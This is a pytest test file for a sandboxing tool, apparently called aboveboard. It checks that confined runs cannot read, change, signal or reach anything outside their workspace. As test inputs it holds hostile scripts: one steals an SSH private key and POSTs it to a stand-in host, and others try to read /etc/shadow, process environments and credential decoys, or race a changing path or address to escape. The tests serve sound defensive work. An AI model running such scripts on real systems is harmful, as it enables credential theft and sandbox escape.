"""Tiers N and P: less is proven, nothing less is kept in; and nobody gets there without being told."""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from aboveboard.contract import Contract
from aboveboard.errors import EnvironmentProblem, UsageError
from aboveboard.evidence import Evidence
from aboveboard.oracles.process import judge
from aboveboard.world import Completed, Limits, Mount, Service, World
from aboveboard.world import _linux as linux
from aboveboard.world.lower_files import Shadow, Wall, copy_tree
from aboveboard.world.lower_init import static_filter
from aboveboard.world.rooting import StepFailed
from aboveboard.world.world import FALLBACK, tiers_to_try

from .confined import Refusal, run_confined

pytestmark = pytest.mark.skipif(not linux.landlock_abi(), reason="tiers N and P need Landlock")

each_tier = pytest.mark.parametrize("tier", ["N", "P"])
PYTHON = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else sys.executable


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    place = tmp_path / "workspace"
    place.mkdir()
    (place / "in.txt").write_text("the input of the task, some words long")
    return place


@pytest.fixture
def outside() -> Iterator[Path]:
    """A directory of the user's that is no part of the workspace, and in no place that has a shadow."""
    homes = [p for p in (Path.home(), Path.cwd()) if p.parts[:2] != ("/", "tmp") and os.access(p, os.W_OK)]
    if not homes:
        pytest.skip("the home directory and the current one are below /tmp, or not writable")
    place = Path(tempfile.mkdtemp(prefix=".aboveboard-test-", dir=homes[0]))
    place.chmod(0o755)
    yield place
    shutil.rmtree(place)


@pytest.fixture
def secret(outside: Path) -> Path:
    """A file in it."""
    file = outside / "secret"
    file.write_text("do not tell")
    file.chmod(0o644)
    return file


def python(world: World, script: str, *arguments: str, timeout: float = 20) -> Completed:
    return world.run([PYTHON, "-c", script, *arguments], timeout=timeout)


def events(evidence: Evidence, kind: str) -> list[dict[str, object]]:
    return [dict(e.data) for e in evidence.events() if e.type == kind]


@contextmanager
def host_server(kind: int = socket.SOCK_STREAM) -> Iterator[tuple[int, list[bytes]]]:
    """A server on the host's loopback, which stands for everything outside: (port, what reached it)."""
    reached: list[bytes] = []
    with socket.socket(socket.AF_INET, kind) as server:
        server.bind(("127.0.0.1", 0))
        if kind == socket.SOCK_STREAM:
            server.listen(64)
        server.settimeout(0.05)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                try:
                    if kind == socket.SOCK_STREAM:
                        server.accept()[0].close()
                        reached.append(b"a connection")
                    else:
                        reached.append(server.recv(1 << 16))
                except TimeoutError:
                    continue

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield server.getsockname()[1], reached
        finally:
            over.set()
            thread.join()


# --- declared -------------------------------------------------------------------------------------------------------


@each_tier
def test_the_tier_is_in_the_record_and_below_what_a_contract_asks_for_by_default(tier: str, workspace: Path) -> None:
    with World(tier=tier, workspace=workspace) as world:
        assert world.assurance.tier == tier
        assert world.assurance.complete, world.assurance
        python(world, "print(open('in.txt').read())")
    evidence = world.close()
    assert evidence.header.text("tier") == tier
    assert {str(w["name"]) for w in events(evidence, "witness")} >= {"walk", "canary"}
    verdict = judge(evidence, Contract(read=["**"]))
    assert verdict.verdict == "indeterminate"
    assert [r.code for r in verdict.reasons] == ["tier"]
    verdict = judge(evidence, Contract(read=["**"], minimum_tier=tier))
    assert (verdict.verdict, verdict.reasons) == ("clean", ())


@each_tier
def test_a_theft_is_forbidden_in_every_tier(tier: str, workspace: Path) -> None:
    script = """
import os, urllib.request
key = open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read()
try:
    urllib.request.urlopen("http://203.0.113.9:8080/take", key, timeout=3).read()
except OSError as e:
    print(e)
"""
    with World(tier=tier, workspace=workspace) as world:
        python(world, script)
    evidence = world.close()
    verdict = judge(evidence, Contract(read=["**"], minimum_tier=tier))
    assert verdict.verdict == "forbidden"
    assert {1, 8} <= {e.kind for e in verdict.forbidden}
    flow = next(f for f in events(evidence, "flow") if f["dst"] == "203.0.113.9")
    assert flow["canaries"]
    assert "POST /take" in str(flow["head"])


@each_tier
@pytest.mark.parametrize(("off", "weakened"), [("walk", "change"), ("canary", "secret"), ("sink", "transmission")])
def test_a_witness_that_is_switched_off_is_missed(tier: str, off: str, weakened: str) -> None:
    if (tier, off) == ("P", "sink"):
        pytest.skip("in tier P the sink is an extra")
    with World(tier=tier, disable=frozenset({off})) as world:
        python(world, "pass")
    verdict = judge(world.close(), Contract(minimum_tier="P"))
    assert verdict.verdict == "indeterminate"
    assert weakened in {r.channel for r in verdict.reasons if r.code == "witness-missing"}


def test_no_tier_below_the_default_is_tried_unless_it_was_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(FALLBACK, raising=False)
    assert [tiers_to_try(t) for t in ("auto", "refuse", "N", "P")] == [("auto",), ("auto",), ("N",), ("P",)]
    monkeypatch.setenv(FALLBACK, "P")
    assert [tiers_to_try(t) for t in ("auto", "refuse", "U")] == [("auto", "N", "P"), ("auto",), ("U",)]
    monkeypatch.setenv(FALLBACK, "yes")
    with pytest.raises(UsageError, match="FALLBACK"):
        tiers_to_try("auto")


START = """
import sys, warnings
warnings.simplefilter("always")
from aboveboard.errors import EnvironmentProblem
from aboveboard.world import World
try:
    with World(tier=sys.argv[1]) as world:
        print(world.assurance.tier, world.assurance.complete, world.run(["/bin/echo", "ran"]).stdout)
except EnvironmentProblem as problem:
    print("refused:", problem)
"""
NO_NAMESPACES = Refusal("unshare", errno.EPERM)
NO_LISTENER = Refusal("seccomp", errno.EPERM, 1, linux.SECCOMP_FILTER_FLAG_NEW_LISTENER)
NO_LANDLOCK = Refusal("landlock_create_ruleset", errno.ENOSYS)


def test_where_namespaces_are_refused_the_step_and_the_way_out_are_named() -> None:
    done = run_confined(START, [NO_NAMESPACES], "auto", **{FALLBACK: ""})
    assert done.stdout.startswith("refused:"), done
    assert "unshare(CLONE_NEWUSER)" in done.stdout
    assert "--tier N" in done.stdout


def test_a_fall_to_a_lower_tier_is_warned_of() -> None:
    done = run_confined(START, [NO_NAMESPACES], "auto", **{FALLBACK: "N"})
    assert done.stdout == "N True b'ran\\n'\n", done
    assert "AssuranceWarning" in done.stderr
    assert "unshare(CLONE_NEWUSER)" in done.stderr


def test_where_notification_is_refused_too_only_tier_p_is_left() -> None:
    done = run_confined(START, [NO_NAMESPACES, NO_LISTENER], "auto", **{FALLBACK: "P"})
    assert done.stdout == "P True b'ran\\n'\n", done
    assert done.stderr.count("AssuranceWarning") == 2
    done = run_confined(START, [NO_NAMESPACES, NO_LISTENER], "N")
    assert "refused: no world could be made here: seccomp user notification" in done.stdout, done


def test_refuse_means_nothing_lower_whatever_the_environment_allows() -> None:
    done = run_confined(START, [NO_NAMESPACES], "refuse", **{FALLBACK: "P"})
    assert done.stdout.startswith("refused:"), done


@each_tier
def test_without_landlock_there_is_no_lower_tier(tier: str) -> None:
    done = run_confined(START, [NO_LANDLOCK], tier)
    assert "refused: no world could be made here: landlock" in done.stdout, done


# --- files ----------------------------------------------------------------------------------------------------------


@each_tier
def test_the_workspace_is_a_copy_and_changes_are_recorded_by_their_original_names(tier: str, workspace: Path) -> None:
    script = """
import os
open("out.txt", "w").write("made")
os.truncate("in.txt", 3); os.makedirs("a/b"); os.rename("out.txt", "a/b/out.txt"); os.symlink("x", "link")
os.chmod("in.txt", 0o600); os.utime("in.txt", (1, 2)); open(os.environ["HOME"] + "/.bashrc", "a").write("# more")
print(os.getcwd())
"""
    before = sorted((p, p.stat().st_mtime_ns) for p in workspace.rglob("*"))
    with World(tier=tier, workspace=workspace) as world:
        done = python(world, script)
        assert done.returncode == 0, done
        assert world.get("a/b/out.txt") == b"made"
    changes = {str(c["x"]): c for c in events(world.close(), "change")}
    assert sorted((p, p.stat().st_mtime_ns) for p in workspace.rglob("*")) == before
    assert changes[f"{workspace}/a/b/out.txt"]["w"] == "created"
    assert changes[f"{workspace}/in.txt"]["mode"] == 0o600
    assert changes[f"{workspace}/in.txt"]["mtime"] == 2
    assert changes[f"{workspace}/link"]["link"] == "x"
    assert changes["/home/dev/.bashrc"]["w"] == "modified"
    assert not os.path.exists(done.stdout.decode().strip()) or eventually_gone(done.stdout.decode().strip())


def eventually_gone(path: str) -> bool:
    until = time.monotonic() + 10
    while os.path.exists(path) and time.monotonic() < until:
        os.sched_yield()
    return not os.path.exists(path)


@each_tier
def test_what_is_outside_cannot_be_read_whatever_way_leads_there(tier: str, workspace: Path, secret: Path) -> None:
    (workspace / "link").symlink_to(secret)
    ways = [
        str(secret), os.path.relpath(secret, workspace), "link", f"/proc/self/root{secret}",
        "/proc/self/cwd/link", "/etc/shadow",
        f"/proc/{os.getpid()}/environ", f"/proc/{os.getpid()}/root{secret}", "/proc/1/environ",
    ]  # fmt: skip
    script = """
import os, sys
for path in sys.argv[1:]:
    try: print("GOT", path, open(path, "rb").read(100))
    except OSError as e: pass
for act in (lambda: os.listdir(sys.argv[1].rpartition("/")[0]), lambda: os.link(sys.argv[1], "hard"),
            lambda: os.rename(sys.argv[1], "moved"), lambda: print(open(os.open(sys.argv[1], os.O_PATH)).read())):
    try: print("GOT", act())
    except OSError as e: pass
fd = os.open(sys.argv[1], os.O_PATH)
for path in (f"/proc/self/fd/{fd}", f"/dev/fd/{fd}"):
    try: print("GOT", open(path).read())
    except OSError as e: pass
"""
    with World(tier=tier, workspace=workspace) as world:
        done = python(world, script, *ways)
    evidence = world.close()
    assert b"GOT" not in done.stdout, done.stdout
    assert b"do not tell" not in done.stdout + done.stderr
    denied = [str(e.get("x", e["n"])) for e in events(evidence, "open") if e["r"] == "denied"]
    assert denied.count(str(secret)) >= 3


@each_tier
def test_what_is_outside_cannot_be_changed_by_any_call(tier: str, workspace: Path, secret: Path) -> None:
    script = """
import os, sys, ctypes
path = sys.argv[1]; directory = os.path.dirname(path)
libc = ctypes.CDLL(None, use_errno=True)
def must(number):
    if number < 0: raise OSError(ctypes.get_errno(), "")
def by_descriptor():
    fd = os.open("/etc/os-release", os.O_RDONLY); os.fchmod(fd, 0o777)
acts = [
    lambda: open(path, "w"), lambda: open(path, "a"), lambda: open(path, "r+"), lambda: open(directory + "/new", "w"),
    lambda: os.truncate(path, 0), lambda: os.unlink(path), lambda: os.rename(path, path + "2"),
    lambda: os.mkdir(directory + "/d"), lambda: os.mkfifo(directory + "/f"), lambda: os.symlink("x", directory + "/s"),
    lambda: os.chmod(path, 0o777), lambda: os.chown(path, os.getuid(), os.getgid()), lambda: os.utime(path, (1, 1)),
    lambda: os.utime(path), lambda: os.setxattr(path, "user.x", b"1"), lambda: os.link("in.txt", directory + "/h"),
    lambda: os.open(directory, os.O_TMPFILE | os.O_RDWR), by_descriptor, lambda: os.rmdir(directory + "/empty"),
    lambda: must(libc.utimensat(-100, path.encode(), (ctypes.c_long * 4)(0, 0x3ffffffe, 5, 0), 0)),
    lambda: open("/usr/bin/made-here", "w"), lambda: os.chmod("/usr/bin/env", 0o700),
]
for n, act in enumerate(acts):
    try: act(); print("DONE", n)
    except OSError as e: pass
"""
    (secret.parent / "empty").mkdir()
    before = (secret.read_bytes(), os.stat(secret), os.listxattr(secret), sorted(os.listdir(secret.parent)))
    with World(tier=tier, workspace=workspace) as world:
        done = python(world, script, str(secret))
    assert done.stdout == b"", done
    after = (secret.read_bytes(), os.stat(secret), os.listxattr(secret), sorted(os.listdir(secret.parent)))
    assert [*after[0:1], *after[2:]] == [*before[0:1], *before[2:]]
    assert (after[1].st_mode, after[1].st_mtime_ns, after[1].st_ctime_ns) == (
        before[1].st_mode,
        before[1].st_mtime_ns,
        before[1].st_ctime_ns,
    )
    world.close()


FLIP = """
import ctypes, os, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
allowed, secret = (os.fsencode(a) for a in sys.argv[1:3])
size = max(len(allowed), len(secret)) + 1
path = ctypes.create_string_buffer(allowed, size)
both = [value.ljust(size, b"\\0") for value in (allowed, secret)]
over = False
def flip():
    while not over:
        ctypes.memmove(path, both[1], size); ctypes.memmove(path, both[0], size)
thread = threading.Thread(target=flip); thread.start()
sys.setswitchinterval(1e-6)
got = 0
for _ in range(int(sys.argv[3])):
    fd = libc.open(path, os.O_RDONLY)
    if fd >= 0:
        try: got += b"do not tell" in os.read(fd, 100)
        except IsADirectoryError: pass  # the two paths, half and half, can name a folder
        os.close(fd)
over = True; thread.join()
print(got)
"""


@each_tier
def test_a_path_that_changes_while_it_is_looked_at_opens_nothing_outside(
    tier: str, workspace: Path, secret: Path
) -> None:
    with World(tier=tier, workspace=workspace) as world:
        tries = "3000" if tier == "N" else "300"  # each try in tier P is some stops of a traced process
        done = python(world, FLIP, str(workspace / "in.txt"), str(secret), tries, timeout=50)
    assert done.stdout == b"0\n", done
    world.close()


@each_tier
def test_decoys_are_where_home_is_and_recorded_as_in_every_tier(tier: str) -> None:
    with World(tier=tier) as world:
        done = python(world, "import os; print(open(os.path.expanduser('~/.aws/credentials')).read())")
    evidence = world.close()
    opened = [str(e.get("x", e["n"])) for e in events(evidence, "open") if e["r"] == "ok"]
    assert "/home/dev/.aws/credentials" in opened
    assert any(str(d["canary"]) in done.stdout.decode() for d in evidence.header.mappings("decoys"))


def test_places_that_no_program_can_see_are_found_by_those_who_open_them() -> None:
    """Tier N opens for its caller, so that a fixed /tmp, /dev/shm or home leads into the shadow."""
    script = """
import os, multiprocessing
open("/tmp/fixed", "w").write("there")
print(open("/tmp/fixed").read(), open("/home/dev/.bashrc").read(1), open("/etc/hostname").read(), end="")
os.rename("/tmp/fixed", "/var/tmp/moved"); print(os.path.exists("/tmp/fixed"), open("/var/tmp/moved").read())
print(multiprocessing.Pool(2).map(abs, [-1, -2]))
"""
    with World(tier="N") as world:
        done = python(world, script)
    assert done.stdout.decode().split("\n")[:3] == ["there # dev-laptop", "False there", "[1, 2]"], done
    assert not os.path.exists("/tmp/fixed")
    changed = {str(c["x"]) for c in events(world.close(), "change")}
    assert "/var/tmp/moved" in changed


@each_tier
def test_put_and_get_go_through_the_same_wall(tier: str, workspace: Path, secret: Path) -> None:
    with World(tier=tier, workspace=workspace) as world:
        world.put("made/by/hand.txt", b"hello")
        assert python(world, "print(open('made/by/hand.txt').read())").stdout == b"hello\n"
        python(world, f"import os; os.symlink({str(secret)!r}, 'trap')")
        with pytest.raises(OSError, match="ermission denied"):
            world.get("trap")
        with pytest.raises(OSError, match="ermission denied"):
            world.put(str(secret.parent / "new"), b"x")
    world.close()
    assert not (workspace / "made").exists()


@each_tier
def test_mounts_are_copies_too(tier: str, tmp_path: Path, workspace: Path) -> None:
    tool = tmp_path / "tool"
    tool.mkdir()
    (tool / "main.py").write_text("import sys; open(sys.argv[1], 'w').write('ok'); print(__file__)")
    mounts = [Mount(str(workspace), "/home/dev/task"), Mount(str(tool), "/home/dev/tool", "ro")]
    with World(tier=tier, workspace="/home/dev/task", mounts=mounts) as world:
        done = world.run([PYTHON, "/home/dev/tool/main.py", "/home/dev/task/out.txt"])
        assert done.returncode == 0, done
        assert world.get("out.txt") == b"ok"
        refused = python(world, "open('/home/dev/tool/main.py', 'w')")
        assert refused.returncode != 0
    evidence = world.close()
    assert "/home/dev/task/out.txt" in {str(c["x"]) for c in events(evidence, "change")}
    assert events(evidence, "command")[0]["argv"][1] == "/home/dev/tool/main.py"  # type: ignore[index]
    assert not (workspace / "out.txt").exists()


@each_tier
def test_block_mode_refuses_what_the_contract_does_not_allow(tier: str, workspace: Path) -> None:
    contract = Contract(read=["in.txt"], write=["out/**"], minimum_tier=tier)
    (workspace / "other.txt").write_text("not for you")
    script = """
import os
for act in (lambda: open("in.txt").read(), lambda: open("other.txt").read(), lambda: open("made.txt", "w"),
            lambda: os.mkdir("out"), lambda: open("out/x", "w"), lambda: os.unlink("in.txt")):
    try: act(); print("ok")
    except OSError as e: print(e.errno)
"""
    with World(tier=tier, workspace=workspace, contract=contract, mode="block") as world:
        done = python(world, script)
    world.close()
    assert done.stdout.split() == [b"ok", b"13", b"13", b"ok", b"ok", b"13"], done


def test_a_workspace_too_large_to_copy_is_refused_with_a_reason(workspace: Path) -> None:
    with open(workspace / "large", "wb") as f:
        f.truncate(8 << 20)
    with pytest.raises(EnvironmentProblem, match="larger than") as caught:
        World(tier="N", workspace=workspace, limits=Limits(disk_bytes=1 << 20)).start()
    assert "smaller directory" in caught.value.advice


def test_what_cannot_be_copied_is_told(tmp_path: Path) -> None:
    source = tmp_path / "source"
    (source / "a").mkdir(parents=True)
    os.mkfifo(source / "a" / "fifo")
    (source / "a" / "file").write_text("x")
    (source / "a" / "file").chmod(0o751)
    os.utime(source / "a", ns=(5, 7))
    copied = copy_tree(str(source), str(tmp_path / "copy"), max_bytes=100)
    assert copied.left_out == [f"{source}/a/fifo is no file, directory or link"]
    assert (tmp_path / "copy/a/file").stat().st_mode & 0o777 == 0o751
    assert (tmp_path / "copy/a").stat().st_mtime_ns == 7
    with pytest.raises(StepFailed, match="larger than 0 bytes"):
        copy_tree(str(source), str(tmp_path / "again"), max_bytes=0)


def test_shadow_paths_and_originals_are_each_others_inverse() -> None:
    shadow = Shadow("/tmp/s", ["/home/dev", "/tmp", "/work/space"], ["/etc/hostname"])
    for original in (b"/home/dev", b"/home/dev/a", b"/tmp/x", b"/work/space/f", b"/etc/hostname"):
        assert shadow.original(shadow.real(original)) == original
        assert shadow.real(original) == b"/tmp/s" + original
    for elsewhere in (b"/home/devil", b"/etc/hosts", b"/usr/bin", b"/tmp/s/home/dev"):
        assert shadow.real(elsewhere) == elsewhere
    assert shadow.in_text("--in=/home/dev/a:/work/space") == "--in=/tmp/s/home/dev/a:/tmp/s/work/space"
    assert shadow.in_text("cat /home/developer /x/home/dev /tmp/a") == "cat /home/developer /x/home/dev /tmp/a"


def test_the_wall_lets_nothing_be_written_that_is_not_a_place_of_the_shadow() -> None:
    shadow = Shadow("/tmp/s", ["/home/dev", "/tmp", "/home/dev/tool"], ["/etc/hostname"])
    wall = Wall(shadow, ["/usr"], ["/home/dev/tool"])
    assert [wall.may_write(p) for p in (b"/tmp/s/home/dev/x", b"/tmp/s/tmp", b"/dev/null")] == [True] * 3
    for path in (b"/tmp/s", b"/tmp/s/home", b"/tmp/s/etc/hostname", b"/tmp/s/home/dev/tool/x", b"/tmp/x", b"/dev/sda"):
        assert not wall.may_write(path)
    assert [wall.may_read(p) for p in (b"/usr/lib/x", b"/etc/shadow", b"/root", b"/usrx")] == [
        True,
        False,
        False,
        False,
    ]


# --- network --------------------------------------------------------------------------------------------------------


@each_tier
def test_payloads_are_received_whole_and_told_with_the_address_that_was_meant(tier: str) -> None:
    script = """
import socket, hashlib
data = bytes(range(256)) * 4000
s = socket.create_connection(("198.51.100.4", 9000)); s.sendall(data); s.close()
s = socket.socket(socket.AF_INET6); s.connect(("2001:db8::44", 9001)); s.sendmsg([b"two ", b"parts"]); s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"to", ("203.0.113.5", 5000)); u.connect(("203.0.113.6", 5001)); u.send(b"connected"); u.sendmsg([b"msg"])
print(socket.gethostbyname("stolen-words.example.test"))
print(hashlib.sha256(data).hexdigest())
"""
    with World(tier=tier) as world:
        done = python(world, script)
    flows = {(str(f["proto"]), str(f["dst"])): f for f in events(world.close(), "flow")}
    assert done.returncode == 0, done
    assert flows["tcp", "198.51.100.4"]["sha256"] == done.stdout.split()[-1].decode()
    assert flows["tcp", "2001:db8::44"]["head"] == "two parts"
    assert flows["udp", "203.0.113.5"]["head"] == "to"
    assert flows["udp", "203.0.113.6"]["head"] == "connectedmsg"
    asked = [f["dns"]["name"] for f in flows.values() if "dns" in f]  # type: ignore[index]
    assert "stolen-words.example.test" in asked


@each_tier
def test_the_hosts_own_servers_are_out_of_reach(tier: str) -> None:
    script = """
import socket, sys
tcp, udp = int(sys.argv[1]), int(sys.argv[2])
def fast():
    socket.socket().sendto(b"open", 0x20000000, ("127.0.0.1", tcp))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); v = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for act in (lambda: socket.create_connection(("127.0.0.1", tcp), 2), lambda: u.sendto(b"x", ("127.0.0.1", udp)), fast,
            lambda: socket.socket(socket.AF_INET6).connect(("::ffff:127.0.0.1", tcp)),
            lambda: u.connect(("127.0.0.1", udp)),
            lambda: u.sendmsg([b"x"], [], 0, ("127.0.0.1", udp)), lambda: v.sendto(b"x", ("::ffff:127.0.0.1", udp)),
            lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1), lambda: socket.socket(17, 3, 0),
            lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1), lambda: socket.socket(socket.AF_INET, 1, 262)):
    try: act(); print("DONE")
    except OSError: pass
"""
    with host_server() as (tcp, connections), host_server(socket.SOCK_DGRAM) as (udp, datagrams):
        with World(tier=tier) as world:
            done = python(world, script, str(tcp), str(udp))
        world.close()
    assert done.returncode == 0, done
    assert done.stdout == b""
    assert (connections, datagrams) == ([], [])


FLIP_ADDRESS = """
import ctypes, socket, struct, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
def address(host, port): return struct.pack("=H", 2) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)
tcp, udp, tries = map(int, sys.argv[1:4])
mine = [address("203.0.113.9", 80), address("127.0.0.1", tcp), address("127.0.0.1", udp)]
place = ctypes.create_string_buffer(mine[0], 16)
over = False
def flip():
    while not over:
        for value in mine: ctypes.memmove(place, value, 16)
threading.Thread(target=flip, daemon=True).start()
sys.setswitchinterval(1e-6)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(tries):
    libc.sendto(u.fileno(), b"leak", 4, 0, place, 16)
    with socket.socket() as s: libc.connect(s.fileno(), place, 16)
over = True
print("tried")
"""


@each_tier
def test_an_address_that_changes_while_it_is_looked_at_leads_nowhere_else(tier: str) -> None:
    with host_server() as (tcp, connections), host_server(socket.SOCK_DGRAM) as (udp, datagrams):
        with World(tier=tier) as world:
            done = python(world, FLIP_ADDRESS, str(tcp), str(udp), "400", timeout=50)
        world.close()
    assert done.stdout == b"tried\n", done
    assert (connections, datagrams) == ([], [])


@each_tier
def test_a_world_may_talk_to_itself(tier: str) -> None:
    script = """
import array, os, socket, threading
a = socket.socket(); a.bind(("0.0.0.0", 0)); a.listen()
c = socket.create_connection(a.getsockname()); c.sendall(b"tcp"); print(a.accept()[0].recv(9), a.getsockname()[0])
six = socket.socket(socket.AF_INET6); six.bind(("::", 0)); six.listen(); port = six.getsockname()[1]
for host in ("127.0.0.1", "::1"): socket.create_connection((host, port)).sendall(b"6"); print(six.accept()[0].recv(9))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp", u.getsockname()); print(u.recv(9))
l = socket.socket(); l.listen(); print(l.getsockname()[0])
name = os.environ["TMPDIR"] + "/s"
x = socket.socket(socket.AF_UNIX); x.bind(name); x.listen()
y = socket.socket(socket.AF_UNIX); y.connect(name); y.send(b"unix")
print(x.accept()[0].recv(9), x.getsockname() == name)
p, q = socket.socketpair(); r, w = os.pipe(); os.write(w, b"passed")
p.sendmsg([b"fd"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [r]))])
print(os.read(array.array("i", q.recvmsg(9, 99)[1][0][2])[0], 9))
got = []
def read():
    while len(got) < 30: got.append(len(q.recv(1 << 20)))
    q.close()
t = threading.Thread(target=read); t.start()
try:
    while True: p.sendmsg([b"z" * 100000])
except OSError as e: print(type(e).__name__)
t.join(); print(sum(got) > 100000)
"""
    with World(tier=tier) as world:
        done = python(world, script)
    world.close()
    expected = b"""b'tcp' 127.0.0.1
b'6'
b'6'
b'udp'
127.0.0.1
b'unix' True
b'passed'
BrokenPipeError
True
"""
    assert done.stdout == expected, done


@each_tier
def test_a_port_of_the_hosts_cannot_be_shared(tier: str) -> None:
    script = (
        "import socket, sys\ns = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n"
        "try: s.bind(('127.0.0.1', int(sys.argv[1]))); print('DONE')\nexcept OSError as e: print(e.errno)\n"
    )
    with socket.socket() as server, World(tier=tier) as world:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        server.bind(("127.0.0.1", 0))
        server.listen()
        done = python(world, script, str(server.getsockname()[1]))
    world.close()
    assert int(done.stdout) == errno.EADDRINUSE


def test_what_others_on_the_host_send_to_the_sink_is_not_evidence() -> None:
    script = """
import socket, sys
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(("203.0.113.7", 99)); u.send(b"mine")
s = socket.create_connection(("203.0.113.7", 80))
print(u.getpeername()[1], s.getpeername()[1], flush=True)
sys.stdin.read(); u.send(b"again"); s.sendall(b"mine too"); s.close()
"""
    reader, writer = os.pipe()
    with World(tier="N") as world:
        process = world.popen([PYTHON, "-c", script], stdin=reader)
        os.close(reader)
        while not process.output("stdout").endswith(b"\n"):
            with pytest.raises(TimeoutError):
                process.wait(0.01)
        udp, tcp = map(int, process.output("stdout").split())
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
            other.sendto(b"forged", ("127.0.0.1", udp))
        with socket.create_connection(("127.0.0.1", tcp)) as stream, contextlib.suppress(ConnectionResetError):
            stream.sendall(b"forged")
            assert stream.recv(1) == b""
        os.close(writer)
        process.wait(10)
    heads = {str(f["head"]) for f in events(world.close(), "flow")}
    assert heads == {"mineagain", "mine too"}


@each_tier
def test_terminals_of_the_host_are_out_of_reach_and_own_ones_work(tier: str) -> None:
    script = """
import os, sys
try: a, b = os.openpty(); os.write(b, b"own"); print(os.read(a, 3))
except OSError as e: print(e.errno)
for flags in (os.O_RDWR, os.O_WRONLY):
    try: os.open(sys.argv[1], flags | os.O_NOCTTY); print("DONE")
    except OSError as e: print(e.errno)
"""
    ours, theirs = os.openpty()
    try:
        with World(tier=tier) as world:
            done = python(world, script, os.ttyname(theirs))
        world.close()
    finally:
        os.close(ours)
        os.close(theirs)
    # Tier P has none of its own: the kernel's wall cannot tell them from those of the host.
    assert done.stdout == (b"b'own'" if tier == "N" else b"13") + b"\n13\n13\n", done


@each_tier
def test_sockets_of_the_host_are_refused_and_recorded(tier: str, outside: Path) -> None:
    name = str(outside / "agent.sock")
    with socket.socket(socket.AF_UNIX) as agent, socket.socket(socket.AF_UNIX) as hidden:
        agent.bind(name)
        agent.listen()
        hidden.bind(b"\0aboveboard-test")
        hidden.listen()
        script = (
            "import socket, sys\n"
            "for n in (sys.argv[1], b'\\0aboveboard-test'):\n"
            "    try: socket.socket(socket.AF_UNIX).connect(n); print('DONE')\n"
            "    except OSError as e: print(e.errno)\n"
        )
        with World(tier=tier) as world:
            done = python(world, script, name)
    denied = [n for n in events(world.close(), "net") if n["fam"] == "unix" and n["addr"] == name]
    assert done.stdout == b"111\n111\n", done
    assert [n["r"] for n in denied] == ["denied"]


@each_tier
def test_a_declared_service_is_reached_and_both_directions_are_recorded(tier: str, tmp_path: Path) -> None:
    name = str(tmp_path / "model.sock")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(name)
        server.listen()

        def answer() -> None:
            peer, _ = server.accept()
            with peer:
                peer.recv(100)
                peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")

        thread = threading.Thread(target=answer)
        thread.start()
        script = "import urllib.request; print(urllib.request.urlopen('http://model.test/v1', timeout=5).read())"
        with World(tier=tier, services=[Service("model", "model.test", 80, f"unix:{name}")]) as world:
            done = python(world, script)
        thread.join(5)
    assert done.stdout == b"b'hello'\n", done
    (flow,) = [f for f in events(world.close(), "flow") if f.get("service") == "model"]
    assert "GET /v1" in str(flow["head"])


# --- processes ------------------------------------------------------------------------------------------------------


@each_tier
def test_processes_of_the_host_cannot_be_signalled_or_disturbed(tier: str) -> None:
    script = """
import ctypes, os, resource, signal, sys
pid = int(sys.argv[1]); libc = ctypes.CDLL(None, use_errno=True)
def raw(*a):
    if libc.syscall(*a) < 0: raise OSError(ctypes.get_errno(), "")
for act in (lambda: os.kill(pid, 9), lambda: os.kill(-os.getpgid(pid), 9), lambda: os.kill(-1, 9),
            lambda: signal.pidfd_send_signal(os.pidfd_open(pid), 9), lambda: os.setpriority(0, pid, 19),
            lambda: os.sched_setaffinity(pid, {0}), lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (1, 1)),
            lambda: raw(101, 16, pid, 0, 0), lambda: __import__("fcntl").fcntl(0, 8, pid)):
    try: act(); print("DONE")
    except OSError: pass
"""
    victim = subprocess.Popen(["/bin/sleep", "60"], start_new_session=True)
    try:
        before = os.getpriority(os.PRIO_PROCESS, victim.pid), os.sched_getaffinity(victim.pid)
        with World(tier=tier) as world:
            done = python(world, script, str(victim.pid))
        evidence = world.close()
        assert done.returncode == 0, done
        assert done.stdout == b""
        assert victim.poll() is None
        assert (os.getpriority(os.PRIO_PROCESS, victim.pid), os.sched_getaffinity(victim.pid)) == before
    finally:
        victim.kill()
        victim.wait()
    assert {(s["s"], s["to"]) for s in events(evidence, "signal") if s["r"] == "denied"} >= {
        ("kill", victim.pid),
        ("kill", -victim.pid),
        ("kill", -1),
        ("pidfd_send_signal", victim.pid),
    }


@each_tier
def test_processes_of_the_world_can_be_signalled_also_across_commands(tier: str) -> None:
    with World(tier=tier) as world:
        sleeper = world.popen(["/bin/sh", "-c", "echo $$; exec sleep 60"])
        while not sleeper.output("stdout").endswith(b"\n"):
            with pytest.raises(TimeoutError):
                sleeper.wait(0.01)
        pid = int(sleeper.output("stdout"))
        done = python(world, f"import os, signal; os.kill({pid}, signal.SIGTERM)")
        assert done.returncode == 0, done
